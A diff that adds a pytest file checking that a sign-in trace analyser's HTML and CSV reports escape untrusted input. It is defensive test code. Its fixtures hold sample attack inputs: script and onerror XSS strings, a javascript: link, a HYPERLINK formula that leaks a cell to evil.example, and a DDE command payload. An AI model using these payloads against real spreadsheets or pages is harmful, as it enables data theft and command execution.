@@ -1,0 +1,103 @@
+"""Everything that leaves the tool is safe for untrusted input: HTML escaped, CSV formulas neutralised."""
+
+from __future__ import annotations
+
+import csv
+import json
+from datetime import datetime, timezone
+from pathlib import Path
+
+import pytest
+
+from nps_trace_analyzer.model import Event, Evidence, Incident, InputFile
+from nps_trace_analyzer.report.csv_safe import neutralise
+from nps_trace_analyzer.report.html import render_html
+from nps_trace_analyzer.report.result import AnalysisResult, to_document
+from nps_trace_analyzer.report.tables import EventsCsv, write_incidents_csv
+
+T0 = datetime(2026, 5, 4, 9, 30, 1, 123456, tzinfo=timezone.utc)
+EVIL_USER = '<script>alert("x")</script>@contoso.com'
+EVIL_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)> & "quotes"'
+
+
+def _incident(**overrides: object) -> Incident:
+    fields = dict(
+        id="INC-0001",
+        kind="sign-in",
+        cid="32e83cbf-484d-49aa-9adb-71528f5eb94d",
+        user=EVIL_USER,
+        server="NPS01",
+        first_seen=T0,
+        last_seen=T0,
+        count=1,
+        codes=["ESTS_TOKEN_ERROR"],
+        primary_code="ESTS_TOKEN_ERROR",
+        category="certificate-token",
+        severity="error",
+        benign=False,
+        in_catalog=True,
+        title="Token error",
+        summary=f"Sign-in of {EVIL_USER} failed",
+        steps=["@SUM(A1:A2) step", "+1 step"],
+        doc_links=["javascript:alert(1)", "https://learn.microsoft.com/x"],
+        evidence=[Evidence("f.evtx", "AuthZOptCh", 1, 7, T0, EVIL_TEXT, "ESTS_TOKEN_ERROR")],
+        attrs={"aadsts": "-AADSTS7000112"},
+    )
+    fields.update(overrides)
+    return Incident(**fields)  # type: ignore[arg-type]
+
+
+def _result() -> AnalysisResult:
+    inp = InputFile('evil"<name>.evtx', "/tmp/x", 10, "ab" * 32, "evtx", analysed=False, reason="<b>bad</b>")
+    return AnalysisResult("bundle<1>", [inp], [_incident()], "test", generated_at=T0)
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("a=b", "a=b"), (None, "")],
+)
+def test_neutralise(cell: object, expected: str) -> None:
+    assert neutralise(cell) == expected
+
+
+def test_html_escapes_everything_from_the_bundle() -> None:
+    html = render_html(to_document(_result()))
+    assert "<script>" not in html and "<img" not in html
+    assert "&lt;script&gt;" in html
+    assert 'href="javascript:' not in html  # non-http links are shown as text, never as links
+    assert 'href="https://learn.microsoft.com/x"' in html
+    assert "&lt;b&gt;bad&lt;/b&gt;" in html
+    assert "http://" not in html.split("<body>")[0]  # nothing fetched: no external resources in the head
+    assert "<script" not in html.lower()
+
+
+def test_incidents_csv_is_bom_rfc4180_and_neutralised(tmp_path: Path) -> None:
+    path = tmp_path / "incidents.csv"
+    write_incidents_csv(path, [_incident(user="=cmd|' /C calc'!A0")])
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
+    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
+    assert rows[0]["User"] == "'=cmd|' /C calc'!A0"
+    assert rows[0]["Details"] == "aadsts=-AADSTS7000112"
+    assert rows[0]["Steps"].startswith("1. @SUM")  # not at cell start: left as is
+
+
+def test_events_csv_neutralises_event_text(tmp_path: Path) -> None:
+    path = tmp_path / "events.csv"
+    event = Event(
+        T0, "f.evtx", "AuthZOptCh", "Microsoft-AzureMfa-AuthZ", 1, 4, 9, "NPS01", ((None, EVIL_TEXT),), EVIL_TEXT
+    )
+    with EventsCsv(path) as out:
+        out.add(event)
+    rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
+    assert rows[0]["Text"].startswith("'=HYPERLINK")
+    assert rows[0]["TimeCreated"] == "2026-05-04T09:30:01.123456Z"
+
+
+def test_json_document_round_trips() -> None:
+    doc = to_document(_result())
+    again = json.loads(json.dumps(doc))
+    assert again["incidents"][0]["user"] == EVIL_USER
+    assert again["incidents"][0]["first_seen"] == "2026-05-04T09:30:01.123456Z"
+    assert again["inputs"][0]["reason"] == "<b>bad</b>"
+    assert "path" not in again["inputs"][0]  # temp paths never leave the tool
